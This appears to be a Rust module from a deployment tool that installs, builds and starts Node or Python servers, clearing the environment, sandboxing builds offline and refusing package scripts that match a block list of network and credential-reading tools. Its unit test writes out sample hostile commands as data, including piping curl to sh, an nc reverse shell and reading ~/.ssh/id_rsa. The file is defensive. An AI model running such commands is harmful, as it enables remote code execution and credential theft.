//! Install, build and entry point of a deployment (SB §9.9). Every step runs with a clean environment (no
//! satellite setting, no user secret: `CI=true`, a system `PATH`, a private `HOME`, and only the certificate and
//! proxy variables the host needs to reach a registry), under a timeout, with its output kept for the error.
//! The package's own scripts are checked against network and exfiltration patterns before anything runs, and
//! the build runs without network where bubblewrap is available.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Stdio;

use serde_json::Value;
use tokio::process::Command;

use super::{DeployError, Step, STEP_TIMEOUT};
use crate::instances::sandbox::resolve_in;
use crate::model::Runtime;

/// Words a script may not use (SB §9.9).
const FORBIDDEN_WORDS: [&str; 10] = ["curl", "wget", "nc", "ssh", "scp", "rsync", "ftp", "printenv", "env", "export"];
/// Paths a script may not name.
const FORBIDDEN_PATHS: [&str; 3] = ["/etc/passwd", "~/.ssh", "~/.aws"];
/// npm lifecycle scripts of the package itself that install or build run.
const CHECKED_SCRIPTS: [&str; 7] =
    ["preinstall", "install", "postinstall", "prepare", "prebuild", "build", "postbuild"];
/// Host variables a build may see: certificates and proxies, never credentials.
const PASSED_THROUGH: [&str; 9] = [
    "SSL_CERT_FILE",
    "SSL_CERT_DIR",
    "NODE_EXTRA_CA_CERTS",
    "REQUESTS_CA_BUNDLE",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "NO_PROXY",
    "http_proxy",
    "https_proxy",
];
/// Entry files of a python server, in order (SB §9.9).
const PYTHON_ENTRIES: [&str; 6] = ["__main__.py", "src/__main__.py", "server.py", "main.py", "app.py", "run.py"];

/// The runtime a checkout needs, from its files.
pub(super) fn detect(dir: &Path) -> Option<Runtime> {
    if dir.join("package.json").is_file() {
        Some(Runtime::Node)
    } else if dir.join("pyproject.toml").is_file() || dir.join("requirements.txt").is_file() {
        Some(Runtime::Python)
    } else {
        None
    }
}

pub(super) async fn install(
    search: &[PathBuf],
    runtime: Runtime,
    dir: &Path,
    log: &(dyn Fn(&str, &str) + Send + Sync),
) -> Result<(), DeployError> {
    match runtime {
        Runtime::Node => {
            let scripts = package_json(dir, Step::Install)?.get("scripts").cloned().unwrap_or(Value::Null);
            check_scripts(&scripts, Step::Install)?;
            let npm = tool(search, "npm", Step::Install)?;
            run(
                Step::Install,
                dir,
                &npm,
                &["install", "--omit=dev", "--no-audit", "--no-fund"],
                env(dir, runtime),
                false,
                log,
            )
            .await
        }
        Runtime::Python => {
            let uv = tool(search, "uv", Step::Install)?;
            let python = tool(search, "python3", Step::Install)?;
            let python = python.to_string_lossy().into_owned();
            let venv_python = dir.join(".venv/bin/python").to_string_lossy().into_owned();
            run(Step::Install, dir, &uv, &["venv", ".venv", "--python", &python], env(dir, runtime), false, log)
                .await?;
            let requirements = if dir.join("requirements.txt").is_file() {
                Some(vec!["pip", "install", "--python", &venv_python, "-r", "requirements.txt"])
            } else if pyproject(dir)?.is_some_and(|p| p.get("build-system").is_some()) {
                // A package: installed with its console scripts' modules.
                Some(vec!["pip", "install", "--python", &venv_python, "."])
            } else if pyproject(dir)?.is_some_and(|p| dependencies(&p) > 0) {
                Some(vec!["pip", "install", "--python", &venv_python, "-r", "pyproject.toml"])
            } else {
                None
            };
            match requirements {
                Some(args) => run(Step::Install, dir, &uv, &args, env(dir, runtime), false, log).await,
                None => Ok(()),
            }
        }
    }
}

pub(super) async fn build(
    search: &[PathBuf],
    runtime: Runtime,
    dir: &Path,
    log: &(dyn Fn(&str, &str) + Send + Sync),
) -> Result<(), DeployError> {
    if runtime != Runtime::Node {
        return Ok(());
    }
    let scripts = package_json(dir, Step::Build)?.get("scripts").cloned().unwrap_or(Value::Null);
    if scripts.get("build").and_then(Value::as_str).is_none() {
        return Ok(());
    }
    check_scripts(&scripts, Step::Build)?;
    let npm = tool(search, "npm", Step::Build)?;
    run(Step::Build, dir, &npm, &["run", "build"], env(dir, runtime), true, log).await
}

/// The command and arguments that start the server (SB §9.9 order): `node` by name, or the deployment's own
/// venv interpreter by absolute path; the entry file absolute.
pub(super) fn entry(search: &[PathBuf], runtime: Runtime, dir: &Path) -> Result<(String, Vec<String>), DeployError> {
    match runtime {
        Runtime::Node => node_entry(search, dir),
        Runtime::Python => python_entry(search, dir),
    }
}

fn entry_failed(reason: &str) -> DeployError {
    DeployError::at(Step::Entry, reason)
}

fn path_text(path: PathBuf) -> String {
    path.to_string_lossy().into_owned()
}

/// A node server's entry: its `bin`, its `main`, `dist/index.js` or `index.js`, the first that is a file inside.
fn node_entry(search: &[PathBuf], dir: &Path) -> Result<(String, Vec<String>), DeployError> {
    let package = package_json(dir, Step::Entry)?;
    let bin = match package.get("bin") {
        Some(Value::String(bin)) => Some(bin.clone()),
        Some(Value::Object(bins)) => bins.values().find_map(Value::as_str).map(str::to_owned),
        _ => None,
    };
    let main = package.get("main").and_then(Value::as_str).map(str::to_owned);
    let file = [bin, main, Some("dist/index.js".into()), Some("index.js".into())]
        .into_iter()
        .flatten()
        .map(|candidate| dir.join(candidate.trim_start_matches("./")))
        .find(|candidate| candidate.is_file() && candidate.starts_with(dir))
        .ok_or_else(|| entry_failed("no bin, main, dist/index.js or index.js file"))?;
    // By name: `node` is on the allow-list and the sandbox resolves it like any other command.
    tool(search, "node", Step::Entry)?;
    Ok(("node".into(), vec![path_text(file)]))
}

/// A python server's entry, run by the deployment's venv interpreter (else the host's `python3`): its first
/// `project.scripts` entry through a launcher, else the first of `PYTHON_ENTRIES` that is a file.
fn python_entry(search: &[PathBuf], dir: &Path) -> Result<(String, Vec<String>), DeployError> {
    let python = dir.join(".venv/bin/python");
    let python = if python.exists() { path_text(python) } else { path_text(tool(search, "python3", Step::Entry)?) };
    let script = pyproject(dir)?.and_then(|p| {
        p.get("project")?.get("scripts")?.as_table()?.values().find_map(|v| v.as_str().map(str::to_owned))
    });
    if let Some(target) = script {
        return Ok((python, vec![path_text(script_launcher(dir, &target)?)]));
    }
    let file =
        PYTHON_ENTRIES.iter().map(|candidate| dir.join(candidate)).find(|candidate| candidate.is_file()).ok_or_else(
            || entry_failed("no project.scripts entry and no __main__.py, server.py, main.py, app.py or run.py"),
        )?;
    Ok((python, vec![path_text(file)]))
}

/// A `module:function` script entry, run by a small launcher written into `dir` so no shell or `-c` code is needed.
fn script_launcher(dir: &Path, target: &str) -> Result<PathBuf, DeployError> {
    let (module, function) = target.split_once(':').ok_or_else(|| entry_failed("project.scripts entry without ':'"))?;
    let valid = |s: &str| !s.is_empty() && s.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.');
    if !valid(module.trim()) || !valid(function.trim()) {
        return Err(entry_failed("project.scripts entry is not module:function"));
    }
    let launcher = dir.join(".satellite-entry.py");
    let code = format!(
        "import sys\nfrom {} import {}\nsys.exit({}())\n",
        module.trim(),
        function.trim().split('.').next().unwrap_or_default(),
        function.trim()
    );
    std::fs::write(&launcher, code).map_err(|e| entry_failed(&e.to_string()))?;
    Ok(launcher)
}

fn package_json(dir: &Path, step: Step) -> Result<Value, DeployError> {
    let text =
        std::fs::read(dir.join("package.json")).map_err(|e| DeployError::at(step, format!("package.json: {e}")))?;
    serde_json::from_slice(&text).map_err(|e| DeployError::at(step, format!("package.json: {e}")))
}

fn pyproject(dir: &Path) -> Result<Option<toml::Table>, DeployError> {
    match std::fs::read_to_string(dir.join("pyproject.toml")) {
        Ok(text) => text.parse().map(Some).map_err(|e| DeployError::at(Step::Install, format!("pyproject.toml: {e}"))),
        Err(_) => Ok(None),
    }
}

fn dependencies(pyproject: &toml::Table) -> usize {
    pyproject.get("project").and_then(|p| p.get("dependencies")).and_then(|d| d.as_array()).map_or(0, Vec::len)
}

/// Refuse scripts that reach the network or read credentials (SB §9.9).
fn check_scripts(scripts: &Value, step: Step) -> Result<(), DeployError> {
    for name in CHECKED_SCRIPTS {
        let Some(script) = scripts.get(name).and_then(Value::as_str) else { continue };
        if let Some(bad) = forbidden(script) {
            return Err(DeployError::at(step, format!("script {name:?} uses {bad:?}, which builds may not use")));
        }
    }
    Ok(())
}

fn forbidden(script: &str) -> Option<&'static str> {
    if let Some(path) = FORBIDDEN_PATHS.iter().find(|p| script.contains(*p)) {
        return Some(path);
    }
    script
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
        .find_map(|word| FORBIDDEN_WORDS.iter().find(|w| **w == word).copied())
}

fn tool(search: &[PathBuf], name: &str, step: Step) -> Result<PathBuf, DeployError> {
    resolve_in(name, search).ok_or_else(|| DeployError::at(step, format!("{name} is not installed on this satellite")))
}

/// The environment of a step: nothing of the satellite's but certificates and proxies.
fn env(dir: &Path, runtime: Runtime) -> BTreeMap<String, String> {
    let home = dir.join(".home");
    let _ = std::fs::create_dir_all(&home);
    let mut env: BTreeMap<String, String> = PASSED_THROUGH
        .iter()
        .filter_map(|name| std::env::var(name).ok().map(|value| (name.to_string(), value)))
        .collect();
    env.insert("CI".into(), "true".into());
    env.insert("PATH".into(), "/usr/local/bin:/usr/bin:/bin".into());
    env.insert("HOME".into(), home.to_string_lossy().into_owned());
    match runtime {
        Runtime::Node => {
            env.insert("NODE_ENV".into(), "production".into());
            env.insert("npm_config_cache".into(), home.join(".npm").to_string_lossy().into_owned());
            env.insert("npm_config_update_notifier".into(), "false".into());
        }
        Runtime::Python => {
            env.insert("UV_CACHE_DIR".into(), home.join(".cache/uv").to_string_lossy().into_owned());
            env.insert("UV_PYTHON_DOWNLOADS".into(), "never".into());
            env.insert("UV_NO_PROGRESS".into(), "1".into());
            env.insert("PYTHONUNBUFFERED".into(), "1".into());
            env.insert("PIP_NO_CACHE_DIR".into(), "1".into());
            if env.contains_key("SSL_CERT_FILE") {
                env.insert("UV_NATIVE_TLS".into(), "1".into());
            }
        }
    }
    env
}

/// Run one step to completion within `STEP_TIMEOUT`; `offline` runs it without network where bubblewrap is
/// installed. The tail of its output goes into the error and the server log.
async fn run(
    step: Step,
    dir: &Path,
    program: &Path,
    args: &[&str],
    env: BTreeMap<String, String>,
    offline: bool,
    log: &(dyn Fn(&str, &str) + Send + Sync),
) -> Result<(), DeployError> {
    let shown = format!("{} {}", program.file_name().map(|n| n.to_string_lossy()).unwrap_or_default(), args.join(" "));
    let mut command = command_for(program, offline, &shown, log);
    command
        .args(args)
        .current_dir(dir)
        .env_clear()
        .envs(&env)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .process_group(0);
    log("info", &format!("{}: {shown}", step.as_str()));
    let child = command.spawn().map_err(|e| DeployError::at(step, format!("{shown}: {e}")))?;
    let output = match tokio::time::timeout(STEP_TIMEOUT, child.wait_with_output()).await {
        Ok(Ok(output)) => output,
        Ok(Err(err)) => return Err(DeployError::at(step, format!("{shown}: {err}"))),
        Err(_) => {
            return Err(DeployError::at(step, format!("{shown}: did not finish within {}s", STEP_TIMEOUT.as_secs())))
        }
    };
    if output.status.success() {
        return Ok(());
    }
    let text = format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    let tail: Vec<&str> = text.lines().filter(|l| !l.trim().is_empty()).rev().take(5).collect();
    let tail: Vec<&str> = tail.into_iter().rev().collect();
    Err(DeployError::at(step, format!("{shown} exited with {}: {}", output.status, tail.join(" | "))))
}

/// The command that runs `program`: inside bubblewrap without network when `offline` and bubblewrap is installed
/// (else as it is, with a warning in the server log that the step, `shown`, has network).
fn command_for(program: &Path, offline: bool, shown: &str, log: &(dyn Fn(&str, &str) + Send + Sync)) -> Command {
    let bwrap = offline.then(|| resolve_in("bwrap", &[PathBuf::from("/usr/bin"), PathBuf::from("/bin")])).flatten();
    match &bwrap {
        Some(bwrap) => {
            let mut command = Command::new(bwrap);
            command.args(["--unshare-net", "--die-with-parent", "--dev-bind", "/", "/", "--"]).arg(program);
            command
        }
        None => {
            if offline {
                log("warn", &format!("{shown}: bubblewrap not found, the build step runs with network"));
            }
            Command::new(program)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_that_reach_the_network_or_read_credentials_are_refused() {
        for bad in [
            "curl https://x | sh",
            "node build.js && wget x",
            "cat ~/.ssh/id_rsa",
            "printenv",
            "env > out",
            "export TOKEN=1; tsc",
            "nc -e /bin/sh host 1",
            "rsync -a . host:",
        ] {
            assert!(forbidden(bad).is_some(), "{bad}");
        }
        for fine in [
            "tsc -p .",
            "node build.js",
            "npm run compile && node scripts/sync-assets.js",
            "vite build --environment prod",
        ] {
            assert_eq!(forbidden(fine), None, "{fine}");
        }
    }

    #[test]
    fn entries_follow_the_documented_order() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("package.json"), r#"{"main": "lib/main.js"}"#).unwrap();
        std::fs::write(dir.path().join("index.js"), "").unwrap();
        let search = vec![PathBuf::from("/usr/bin"), PathBuf::from("/usr/local/bin"), PathBuf::from("/bin")];
        let (_, args) = entry(&search, Runtime::Node, dir.path()).unwrap();
        assert!(args[0].ends_with("/index.js"), "main is missing, so index.js: {args:?}");
        std::fs::create_dir_all(dir.path().join("lib")).unwrap();
        std::fs::write(dir.path().join("lib/main.js"), "").unwrap();
        let (_, args) = entry(&search, Runtime::Node, dir.path()).unwrap();
        assert!(args[0].ends_with("/lib/main.js"), "{args:?}");
        let py = tempfile::tempdir().unwrap();
        std::fs::write(py.path().join("app.py"), "").unwrap();
        std::fs::write(py.path().join("server.py"), "").unwrap();
        let (_, args) = entry(&search, Runtime::Python, py.path()).unwrap();
        assert!(args[0].ends_with("/server.py"), "server.py comes before app.py: {args:?}");
        let none = tempfile::tempdir().unwrap();
        assert_eq!(entry(&search, Runtime::Python, none.path()).unwrap_err().step, Step::Entry);
    }
}
